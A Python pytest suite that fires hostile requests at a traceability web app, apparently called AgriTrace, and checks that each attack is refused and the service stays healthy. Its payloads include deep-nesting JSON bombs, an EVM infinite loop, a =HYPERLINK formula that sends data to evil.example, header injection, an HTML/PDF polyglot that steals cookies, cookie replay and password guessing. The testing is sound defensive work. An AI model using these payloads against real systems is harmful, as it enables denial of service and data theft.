"""Hostile input against real server processes: the development server that ``make run``
starts (``flask serve``) and gunicorn. Each attack gets its answer, and ``/healthz`` still
answers 200 within a second afterwards: no single request takes the service down.
"""

from __future__ import annotations

import csv
import email.message
import http.client
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import requests

from bench.processes import die_with_parent
from tests.chain.anvil import free_port
from trace.seed import DEMO_PASSWORD

ROOT = Path(__file__).resolve().parents[2]
#: A process imports the whole app (py-evm, web3, reportlab): slow on a busy CI machine.
START_PATIENCE = 120.0
DEEP = 70_000  # the nesting that killed the process with SIGSEGV
FARMER = "thanhlong@demo.agritrace.vn"
DAY_CAP = 100_000  # stamps one producer may mint in 24 hours, for these servers
#: A scan waited 11.8 s behind a 1,000,000-stamp mint before minting wrote in chunks.
SCAN_PATIENCE = 5.0

pytestmark = pytest.mark.xdist_group("hostile-server")


@dataclass
class Server:
    """A running server process and what a test needs to talk to it."""

    kind: str
    port: int
    env: dict[str, str]
    processes: list[subprocess.Popen[bytes]] = field(default_factory=list)
    token: str = ""
    farmer_token: str = ""

    def request(
        self,
        method: str,
        path: str,
        body: bytes | Iterable[bytes] | None = None,
        headers: dict[str, str] | None = None,
        timeout: float = 30.0,
    ) -> tuple[int, dict[str, str], bytes]:
        """One request on a fresh connection; an iterable body is sent chunked."""
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout)
        try:
            chunked = body is not None and not isinstance(body, bytes)
            conn.request(method, path, body=body, headers=headers or {}, encode_chunked=chunked)
            response = conn.getresponse()
            return response.status, dict(response.getheaders()), response.read()
        finally:
            conn.close()

    def assert_healthy(self) -> None:
        """``/healthz`` answers 200 within a second, and every process is still running."""
        for process in self.processes:
            assert process.poll() is None, f"{self.kind}: a process died ({process.returncode})"
        started = time.monotonic()
        status, _headers, body = self.request("GET", "/healthz", timeout=1.0)
        elapsed = time.monotonic() - started
        assert status == 200, body[:500]
        assert elapsed < 1.0, f"/healthz took {elapsed:.2f} s"


def _flask(env: dict[str, str], *args: str) -> None:
    subprocess.run(
        [sys.executable, "-m", "flask", "--app", "wsgi", *args],
        cwd=ROOT,
        env=env,
        check=True,
        capture_output=True,
        timeout=START_PATIENCE,
    )


def _token(env: dict[str, str], email: str, scopes: str) -> str:
    """An API token, as an operator issues one (``flask create-token``)."""
    return subprocess.run(
        [sys.executable, "-m", "flask", "--app", "wsgi", "create-token", email, "--scope", scopes],
        cwd=ROOT,
        env=env,
        check=True,
        capture_output=True,
        text=True,
        timeout=START_PATIENCE,
    ).stdout.split()[-1]


def _start(cmd: list[str], env: dict[str, str], log: Path) -> subprocess.Popen[bytes]:
    with open(log, "ab") as out:  # the child keeps its own copy of the descriptor
        return subprocess.Popen(
            cmd,
            cwd=ROOT,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            preexec_fn=die_with_parent,
        )


def _wait_until_healthy(server: Server, log: Path) -> None:
    deadline = time.monotonic() + START_PATIENCE
    while time.monotonic() < deadline:
        for process in server.processes:
            if process.poll() is not None:
                raise AssertionError(f"{server.kind} exited:\n{log.read_text()[-3000:]}")
        try:
            if server.request("GET", "/healthz", timeout=2.0)[0] == 200:
                return
        except OSError:
            pass
        time.sleep(0.2)
    raise AssertionError(f"{server.kind} not healthy in time:\n{log.read_text()[-3000:]}")


def _stop(processes: list[subprocess.Popen[bytes]]) -> None:
    for process in processes:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
    for process in processes:
        try:
            process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@pytest.fixture(scope="module", params=["flask-serve", "gunicorn"])
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    """A seeded demo served as ``make run`` serves it, or by gunicorn beside a worker."""
    kind: str = request.param
    folder = tmp_path_factory.mktemp(kind)
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTEST", "AGRITRACE"))}
    env.update(
        AGRITRACE_ENV="development",
        AGRITRACE_INSTANCE=str(folder / "instance"),
        DATABASE_URL=f"sqlite:///{folder / 'agritrace.db'}",
        PUBLIC_BASE_URL=f"http://127.0.0.1:{port}",
        MARKETPLACE_SANDBOXES="0",
        PYTHONUNBUFFERED="1",
        MINT_MAX_STAMPS_PER_DAY=str(DAY_CAP),
    )
    env.pop("TEST_DATABASE_URL", None)
    _flask(env, "migrate")
    _flask(env, "seed-demo")
    token = _token(env, "inspector@demo.agritrace.vn", "read,recall,capture")
    farmer_token = _token(env, FARMER, "read,mint")
    log = folder / "server.log"
    if kind == "flask-serve":
        commands = [[sys.executable, "-m", "flask", "--app", "wsgi", "serve", "--port", str(port)]]
    else:
        commands = [
            [
                sys.executable,
                "-m",
                "gunicorn",
                # One process (the embedded chain opens in one), threads so that a scan
                # is served while a long request (a big mint) runs.
                "-w",
                "1",
                "-k",
                "gthread",
                "--threads",
                "4",
                "--timeout",
                "120",
                "-b",
                f"127.0.0.1:{port}",
                "--graceful-timeout",
                "5",
                "wsgi:app",
            ],
            # Jobs run in a worker process; one that opens no chain may run beside gunicorn.
            [sys.executable, "-m", "flask", "--app", "wsgi", "worker", "--only", "marketplace."],
        ]
    running = Server(kind, port, env, [_start(cmd, env, log) for cmd in commands], token)
    running.farmer_token = farmer_token
    try:
        _wait_until_healthy(running, log)
        yield running
    finally:
        _stop(running.processes)


def _rpc(server: Server, payload: Any) -> tuple[int, Any]:
    status, _headers, body = server.request(
        "POST", "/chain/rpc", json.dumps(payload).encode(), {"Content-Type": "application/json"}
    )
    return status, json.loads(body) if body.startswith((b"{", b"[")) else body


# --- 1. one request must not crash the process --------------------------------------------


def test_deeply_nested_json_to_chain_rpc_is_refused(server: Server) -> None:
    status, _headers, body = server.request(
        "POST", "/chain/rpc", b"[" * DEEP, {"Content-Type": "application/json"}
    )
    assert status == 413 or json.loads(body)["error"]["code"] in (-32600, -32700)
    server.assert_healthy()


def test_deeply_nested_chunked_json_to_chain_rpc_is_refused(server: Server) -> None:
    """No Content-Length: the body limit holds while the body is read."""
    chunks = (b"[" * 1000 for _ in range(DEEP // 1000))
    status, _headers, _body = server.request(
        "POST", "/chain/rpc", chunks, {"Content-Type": "application/json"}
    )
    assert status == 413
    server.assert_healthy()


def test_nesting_under_the_rpc_size_limit_is_a_parse_error(server: Server) -> None:
    chunks = (b"[" * 1000 for _ in range(60))
    status, _headers, body = server.request(
        "POST", "/chain/rpc", chunks, {"Content-Type": "application/json"}
    )
    assert status == 200
    assert json.loads(body)["error"]["code"] == -32700
    server.assert_healthy()


@pytest.mark.parametrize("chunked", [False, True], ids=["length", "chunked"])
def test_deeply_nested_epcis_capture_is_refused(server: Server, chunked: bool) -> None:
    document = b'{"type": "EPCISDocument", "epcisBody": ' + b"[" * 200_000 + b"}"
    body: bytes | Iterator[bytes] = (
        (document[i : i + 8192] for i in range(0, len(document), 8192)) if chunked else document
    )
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {server.token}"}
    status, response_headers, answer = server.request(
        "POST", "/api/v1/epcis/capture", body, headers
    )
    assert status == 400, answer[:1000]
    assert response_headers["Content-Type"] == "application/problem+json"
    assert b"nested deeper than 32 levels" in answer
    server.assert_healthy()


def test_a_chunked_body_over_the_size_limit_is_refused(server: Server) -> None:
    """7 MB against the 6 MB limit, with no Content-Length to check up front."""
    chunks = (b" " * 65536 for _ in range(7 * 16))
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {server.token}"}
    status, _headers, _body = server.request("POST", "/api/v1/epcis/capture", chunks, headers)
    assert status == 413
    server.assert_healthy()


# --- a browser-like client: cookies and the forms' CSRF tokens ------------------------------


CSRF = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')


class Browser:
    """A cookie-keeping client that fills forms as a browser would (CSRF token included)."""

    def __init__(self, server: Server) -> None:
        self.base = f"http://127.0.0.1:{server.port}"
        self.http = requests.Session()
        self.http.headers["User-Agent"] = "Mozilla/5.0 (hostile-suite)"

    def get(self, path: str) -> requests.Response:
        return self.http.get(self.base + path, allow_redirects=False, timeout=30)

    def submit(self, path: str, fields: dict[str, str]) -> requests.Response:
        """GET the form, then POST it with its CSRF token."""
        token = CSRF.search(self.get(path).text)
        data = {**fields, **({"csrf_token": token.group(1)} if token else {})}
        return self.http.post(self.base + path, data=data, allow_redirects=False, timeout=30)

    def post(self, path: str, fields: dict[str, str], form_page: str) -> requests.Response:
        """POST to ``path`` with the CSRF token of ``form_page`` (buttons without a page)."""
        token = CSRF.search(self.get(form_page).text)
        data = {**fields, **({"csrf_token": token.group(1)} if token else {})}
        return self.http.post(self.base + path, data=data, allow_redirects=False, timeout=30)

    def log_in(self, email: str, password: str = DEMO_PASSWORD) -> requests.Response:
        return self.submit("/login", {"email": email, "password": password})


# --- 2. /chain/rpc cannot hold the chain or the CPU -----------------------------------------


INFINITE_LOOP = "0x5b600056"  # JUMPDEST PUSH1 0 JUMP


def test_an_infinite_loop_eth_call_is_bounded(server: Server) -> None:
    started = time.monotonic()
    status, reply = _rpc(
        server,
        {
            "jsonrpc": "2.0",
            "id": 1,
            "method": "eth_call",
            "params": [{"data": INFINITE_LOOP}, "latest"],
        },
    )
    assert status == 200
    assert "error" in reply  # out of gas under the cap, not 13-24 s of CPU
    assert time.monotonic() - started < 5.0
    server.assert_healthy()


def test_gas_beyond_the_cap_is_refused(server: Server) -> None:
    call = {"data": INFINITE_LOOP, "gas": hex(10**9)}
    status, reply = _rpc(
        server, {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [call, "latest"]}
    )
    assert status == 200
    assert reply["error"]["code"] == -32005
    server.assert_healthy()


def test_a_batch_over_the_cap_is_refused(server: Server) -> None:
    batch = [{"jsonrpc": "2.0", "id": i, "method": "eth_chainId", "params": []} for i in range(20)]
    status, reply = _rpc(server, batch)
    assert status == 200
    errors = reply if isinstance(reply, list) else [reply]
    assert all("error" in item for item in errors)
    assert "result" not in json.dumps(reply)
    server.assert_healthy()


# --- 3. text that lands in a spreadsheet cannot run there -----------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'


def test_a_formula_product_name_is_neutralised_in_open_data(server: Server) -> None:
    farmer = Browser(server)
    assert farmer.log_in(FARMER).status_code == 302
    added = farmer.submit(
        "/farm/products",
        {"name_vi": FORMULA, "name_en": "@SUM(1+1)", "category": "fruit", "unit": "kg", "gtin": ""},
    )
    assert added.status_code == 302, added.text[:2000]
    status, _headers, body = server.request("GET", "/open-data/products.csv")
    assert status == 200
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    server.assert_healthy()


# --- 4-5. accounts: sessions end at logout, passwords and guessing are bounded --------------


def test_a_session_cookie_replayed_after_logout_is_refused(server: Server) -> None:
    farmer = Browser(server)
    assert farmer.log_in(FARMER).status_code == 302
    assert farmer.get("/farm/").status_code == 200
    stolen = dict(farmer.http.cookies)
    assert farmer.post("/logout", {}, "/farm/").status_code == 302
    replay = requests.get(f"{farmer.base}/farm/", cookies=stolen, allow_redirects=False, timeout=30)
    assert replay.status_code == 302
    assert "/login" in replay.headers["Location"]
    server.assert_healthy()


@pytest.mark.parametrize(
    ("password", "reason"),
    [
        ("aaaaaaaaaa", "Dùng ít nhất 12 ký tự"),
        ("password1234", "Mật khẩu này quá phổ biến"),
        ("aaaaaaaaaaaaaaaa", "Mật khẩu này quá phổ biến"),
    ],
)
def test_a_weak_password_is_refused_at_registration(
    server: Server, password: str, reason: str
) -> None:
    email = f"new-farmer-{len(password)}-{password[:3]}@example.vn"
    answer = Browser(server).submit(
        "/register",
        {
            "email": email,
            "password": password,
            "full_name": "Nguyễn Văn A",
            "name": "HTX A",
            "kind": "household",
            "registration_number": "",
            "address_line": "1",
            "commune": "Tân Lập",
            "district": "Châu Thành",
            "province": "Long An",
            "phone": "0900000000",
            "gln": "",
            "company_prefix": "",
        },
    )
    assert answer.status_code != 302  # the form again, not "account ready"
    assert reason in answer.text
    assert Browser(server).log_in(email, password).status_code == 401  # no account was made
    server.assert_healthy()


# --- 6-7. minting caps, download names, uploads --------------------------------------------


def _new_lot(farmer: Browser, code: str, kilograms: int = 50_000) -> int:
    """Record a lot through the farmer's form; return its id."""
    form = farmer.get("/lots/").text
    product = re.search(r'name="product_id".*?<option value="(\d+)"', form, re.S)
    plot = re.search(r'name="plot_id".*?<option value="(\d+)"', form, re.S)
    assert product and plot, form[:2000]
    created = farmer.submit(
        "/lots/",
        {
            "product_id": product.group(1),
            "plot_id": plot.group(1),
            "code": code,
            "harvest_date": "2026-11-30",
            "quantity": str(kilograms),
            "unit": "kg",
        },
    )
    assert created.status_code == 302, created.text[:3000]
    return int(created.headers["Location"].rstrip("/").rsplit("/", 1)[-1])


def _mint(server: Server, lot_id: int, count: int) -> tuple[int, dict[str, Any]]:
    status, _headers, body = server.request(
        "POST",
        f"/api/v1/batches/{lot_id}/stamps",
        json.dumps({"count": count, "pack_size": "1"}).encode(),
        {"Content-Type": "application/json", "Authorization": f"Bearer {server.farmer_token}"},
        timeout=120,
    )
    return status, json.loads(body)


def test_a_lot_code_cannot_inject_into_the_download_name(server: Server) -> None:
    farmer = Browser(server)
    assert farmer.log_in(FARMER).status_code == 302
    lot_id = _new_lot(farmer, '"X";A=B')
    status, minted = _mint(server, lot_id, 10)
    assert status == 201, minted
    answer = farmer.http.get(
        f"{farmer.base}/api/v1/batches/{lot_id}/stamps.pdf",
        headers={"Authorization": f"Bearer {server.farmer_token}"},
        timeout=60,
    )
    assert answer.status_code == 200
    assert answer.content.startswith(b"%PDF-")
    disposition = answer.headers["Content-Disposition"]
    message = email.message.Message()
    message["Content-Disposition"] = disposition
    params = dict(message.get_params(header="Content-Disposition") or [])
    assert set(params) <= {"attachment", "filename", "filename*"}, disposition
    assert "a" not in params  # the injected parameter did not become one
    server.assert_healthy()


def _a_demo_stamp_path(server: Server) -> str:
    """The path of one of the demo's stamps (the farmer's first lot that has any)."""
    auth = {"Authorization": f"Bearer {server.farmer_token}"}
    lots = json.loads(server.request("GET", "/api/v1/batches", headers=auth)[2])["items"]
    for lot in lots:
        _s, _h, body = server.request(
            "GET", f"/api/v1/batches/{lot['id']}/stamps?per_page=1", headers=auth
        )
        items = json.loads(body)["items"]
        if items:
            return "/" + items[0]["uri"].split("/", 3)[3]
    raise AssertionError("the demo has no stamps")


def test_a_big_mint_leaves_scans_flowing_and_the_daily_cap_holds(server: Server) -> None:
    """Scans answer while a farmer mints 99,900 stamps; past the cap nothing is added."""
    farmer = Browser(server)
    assert farmer.log_in(FARMER).status_code == 302
    lot_id = _new_lot(farmer, f"CAP-{server.kind.upper()}", kilograms=400_000)
    stamp = _a_demo_stamp_path(server)
    minted: dict[str, Any] = {}
    minting = threading.Thread(
        target=lambda: minted.update(
            zip(("status", "body"), _mint(server, lot_id, DAY_CAP - 100), strict=True)
        )
    )
    minting.start()
    scans: list[tuple[int, float]] = []
    while minting.is_alive() and len(scans) < 200:
        started = time.monotonic()
        status = server.request("GET", stamp, timeout=30)[0]
        scans.append((status, time.monotonic() - started))
        server.assert_healthy()
        time.sleep(0.1)
    minting.join(120)
    assert minted["status"] == 201, minted
    assert scans and all(status == 200 for status, _ in scans)
    assert max(seconds for _, seconds in scans) < SCAN_PATIENCE, scans
    status, refused = _mint(server, lot_id, 500)
    assert status in (409, 422), refused
    assert "MINT" not in json.dumps(refused)  # a sentence for people, not a setting name
    _status, _headers, body = server.request(
        "GET",
        f"/api/v1/batches/{lot_id}/stamps?per_page=1",
        headers={"Authorization": f"Bearer {server.farmer_token}"},
    )
    listed = json.loads(body)
    assert listed["total"] == DAY_CAP - 100, listed  # the refused mint added no stamp
    server.assert_healthy()


def test_an_html_polyglot_upload_is_kept_and_served_as_a_pdf(server: Server) -> None:
    farmer = Browser(server)
    assert farmer.log_in(FARMER).status_code == 302
    page = farmer.get("/farm/certifications").text
    token = CSRF.search(page)
    product = re.search(r'name="product_ids".*?<option value="(\d+)"', page, re.S)
    polyglot = b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"
    fields = {
        "scheme": "vietgap",
        "number": "VG-POLY-1",
        "issuer": "Trung tâm",
        "valid_from": "2026-01-01",
        "valid_to": "2028-01-01",
        "ocop_stars": "",
        "csrf_token": token.group(1) if token else "",
        **({"product_ids": product.group(1)} if product else {"producer_wide": "y"}),
    }
    added = farmer.http.post(
        f"{farmer.base}/farm/certifications",
        data=fields,
        files={"pdf": ("evil.html", polyglot, "text/html")},
        allow_redirects=False,
        timeout=30,
    )
    assert added.status_code == 302, added.text[:3000]
    listing = farmer.get("/farm/certifications").text
    links = re.findall(r'href="(/farm/certifications/\d+/certificate\.pdf)"', listing)
    assert links
    served = farmer.get(links[-1])
    assert served.status_code == 200
    assert served.headers["Content-Type"].startswith("application/pdf")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert ".html" not in served.headers.get("Content-Disposition", "")
    server.assert_healthy()


# --- last: it locks the demo farmer's account for the rest of the module ----------------


def test_guessing_a_password_is_throttled(server: Server) -> None:
    """Runs last: it spends this client's login budget and locks the demo farmer out."""
    guesser = Browser(server)
    statuses = [guesser.log_in(FARMER, f"wrong password {i}").status_code for i in range(8)]
    assert statuses[0] == 401
    assert statuses[-1] == 429
    right = guesser.log_in(FARMER)
    assert right.status_code == 429  # locked out: the right password waits too
    assert int(right.headers["Retry-After"]) > 0
    server.assert_healthy()
